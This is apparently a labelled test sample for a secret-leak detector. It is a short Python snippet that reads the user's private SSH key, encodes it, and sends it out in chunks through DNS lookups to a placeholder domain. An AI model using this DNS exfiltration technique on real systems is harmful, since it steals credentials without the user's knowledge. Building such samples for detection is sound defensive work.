# expect: 5 credentials-sent-out
import os, base64, socket
secret = base64.b32encode(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()).decode()
for i in range(0, len(secret), 60):
    socket.getaddrinfo(secret[i:i+60] + '.x.invalid', 80)
